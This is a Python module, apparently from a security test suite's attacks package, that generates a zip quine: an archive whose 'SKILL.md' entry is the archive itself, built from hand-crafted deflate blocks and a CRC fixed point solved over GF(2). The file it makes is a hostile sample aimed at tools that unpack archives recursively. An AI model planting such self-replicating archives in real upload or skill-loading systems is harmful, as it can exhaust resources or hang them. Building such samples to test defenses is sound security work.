"""A zip file of one file that is the zip file itself, in our deflated form.

The stream is made of two operations: L(n), a stored block of n bytes, and R(n), which repeats the
last n bytes of the output. Both headers, then, can be written once by L and once by R, and so can
the operations that do it. The one number that depends on all bytes is the CRC; it is affine in
them, so the fixed point is a system of 32 equations.
"""

from __future__ import annotations

import struct
import zlib
from functools import cache

from attacks.zip_layout import End, deflated

LITERAL = 5
REPEAT = 8
FIRST_REPEAT = 2 * REPEAT - LITERAL
LAST_REPEAT = 4
AGAIN = 2 * (REPEAT + LITERAL)
EMPTY = "010" + "0000000"
CRC_BITS = 32
DISTANCES = [1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97]


def literal(length: int) -> bytes:
    """L: the header of a stored block; its bytes follow."""
    return struct.pack("<B2H", 0, length, length ^ 0xFFFF)


def repeat(length: int, size: int) -> bytes:
    """R: repeats the last `length` bytes, in `size` bytes; empty blocks fill them up."""
    for empty in range(3):
        operation = aligned(EMPTY * empty + match(length))
        if len(operation) == size:
            return operation
    raise AssertionError(length, size)


def aligned(bits: str) -> bytes:
    """Blocks as bits in the order of the stream, then an empty stored block, to the next byte."""
    return packed(bits + "000") + struct.pack("<2H", 0, 0xFFFF)


def packed(bits: str) -> bytes:
    return int(bits[::-1], 2).to_bytes((len(bits) + 7) // 8, "little")


def match(length: int, *, last: bool = False) -> str:
    """A block of fixed codes with one match, as far back as it is long (RFC 1951 section 3.2.6)."""
    code, base, extra = 257, 3, 0
    while length >= base + (1 << extra):
        base, code = base + (1 << extra), code + 1
        extra = max(0, (code - 261) // 4)
    distance = max(number for number, least in enumerate(DISTANCES) if least <= length)
    codes = [f"{code - 256:07b}", backwards(length - base, extra), f"{distance:05b}"]
    codes.append(backwards(length - DISTANCES[distance], max(0, distance // 2 - 1)))
    return f"{int(last)}10{''.join(codes)}0000000"


def backwards(value: int, bits: int) -> str:
    return f"{value:0{bits}b}"[::-1] if bits else ""


def stream(head: bytes, tail: bytes) -> bytes:
    """A deflate stream that gives head, itself and tail."""
    five, again = literal(LITERAL), literal(AGAIN)
    both = len(head) + LITERAL
    first, twice = repeat(both, FIRST_REPEAT), repeat(AGAIN, REPEAT)
    last = packed(match(LAST_REPEAT + len(tail), last=True))
    rest = [aligned(EMPTY), aligned(EMPTY * 2), literal(len(last) + len(tail))]
    parts = [literal(both), head, literal(both), first]
    parts += [literal(FIRST_REPEAT), first, five, literal(FIRST_REPEAT)]
    parts += [again, first, five, literal(FIRST_REPEAT), again, twice]
    parts += [again, twice, again, twice, again, twice]
    parts += [again, twice, *rest, twice, *rest, last, tail, last]
    return b"".join(parts)


def archive(crc: int) -> bytes:
    """The archive with this CRC in both of its headers, wherever they are repeated."""
    size = length = 0
    while True:
        entry = deflated("SKILL.md", b"", b"").both(crc=crc, size=size, packed=length)
        head = entry.local.local()
        tail = entry.record(0) + End().record(1, len(entry.record(0)), len(head) + length)
        inside = stream(head, tail)
        total = len(head) + len(inside) + len(tail)
        if (len(inside), total) == (length, size):
            return head + inside + tail
        length, size = len(inside), total


@cache
def quine() -> bytes:
    """An archive whose `SKILL.md` is the archive."""
    start = zlib.crc32(archive(0))
    columns = [zlib.crc32(archive(1 << bit)) ^ start ^ (1 << bit) for bit in range(CRC_BITS)]
    return archive(solved(columns, start))


def solved(columns: list[int], target: int) -> int:
    """The bits whose columns sum to the target, by elimination over GF(2)."""
    basis: dict[int, tuple[int, int]] = {}
    for bit, column in enumerate(columns):
        value, chosen = column, 1 << bit
        while value and value.bit_length() in basis:
            other, others = basis[value.bit_length()]
            value, chosen = value ^ other, chosen ^ others
        basis[value.bit_length()] = (value, chosen)
    answer = 0
    while target:
        value, chosen = basis[target.bit_length()]
        target, answer = target ^ value, answer ^ chosen
    return answer
